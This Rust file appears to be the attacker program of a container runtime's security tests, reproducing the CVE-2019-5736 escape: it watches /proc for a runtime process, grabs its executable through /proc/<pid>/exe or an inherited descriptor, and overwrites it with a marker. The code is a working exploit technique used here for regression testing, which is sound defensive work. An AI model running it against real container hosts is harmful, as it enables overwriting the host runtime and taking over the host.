//! The CVE-2019-5736 attacker of the runtime attack tests: get hold of the runtime's executable from inside a
//! container, then write through that handle once the runtime no longer runs it. Every step is reported on
//! stdout (`holding ...`, `caught ...`, `write: ...`) for the test to check.
//!
//! - `--steal-exe`: watch /proc for a process whose executable is not this program (a runtime process joining
//!   the container, or the init of a container created into this one's pid namespace), open its
//!   `/proc/<pid>/exe` read-only, then overwrite through it.
//! - `--overwrite-fd N`: descriptor N already is the runtime's executable (a library ran inside the runtime,
//!   opened /proc/self/exe and executed this program); overwrite through it.

use std::io::Write;
use std::os::fd::IntoRawFd;
use std::os::unix::fs::MetadataExt;
use std::time::{Duration, Instant};

fn say(line: &str) {
    let mut out = std::io::stdout().lock();
    let _ = writeln!(out, "{line}");
    let _ = out.flush();
}

/// Reopens descriptor `fd` for writing through /proc/self/fd (ETXTBSY while anyone executes the file) and
/// writes a marker at its start; reports the outcome.
pub fn overwrite(fd: i32) -> ! {
    let path = format!("/proc/self/fd/{fd}");
    let target = std::fs::read_link(&path).map_or_else(|e| format!("?({e})"), |p| p.display().to_string());
    say(&format!("holding {target}"));
    let deadline = Instant::now() + Duration::from_secs(30);
    let file = loop {
        match std::fs::OpenOptions::new().write(true).open(&path) {
            Ok(f) => break f,
            Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) && Instant::now() < deadline => {
                std::thread::sleep(Duration::from_millis(5));
            }
            Err(e) => {
                say(&format!("write: open for writing failed: {e}"));
                std::process::exit(0);
            }
        }
    };
    use std::os::unix::fs::FileExt;
    match file.write_at(b"PWNED-BY-CONTAINER", 0) {
        Ok(n) => say(&format!("write: ok ({n} bytes)")),
        Err(e) => say(&format!("write: failed: {e}")),
    }
    std::process::exit(0)
}

/// Watches /proc for a process running another executable and overwrites that executable.
pub fn steal() -> ! {
    let me = std::fs::metadata("/proc/self/exe").expect("stat /proc/self/exe");
    let self_pid = std::process::id().to_string();
    say("watching");
    let deadline = Instant::now() + Duration::from_secs(60);
    while Instant::now() < deadline {
        let Ok(dir) = std::fs::read_dir("/proc") else {
            continue;
        };
        for e in dir.flatten() {
            let name = e.file_name();
            let Some(pid) = name.to_str().filter(|n| n.bytes().all(|b| b.is_ascii_digit())) else {
                continue;
            };
            if pid == self_pid {
                continue;
            }
            let Ok(f) = std::fs::File::open(format!("/proc/{pid}/exe")) else {
                continue;
            };
            let Ok(m) = f.metadata() else { continue };
            if m.dev() == me.dev() && m.ino() == me.ino() {
                continue;
            }
            say(&format!("caught pid {pid}"));
            // Keep the descriptor open across the wait: it is the handle the attack writes through.
            overwrite(f.into_raw_fd())
        }
    }
    say("caught nothing");
    std::process::exit(0)
}
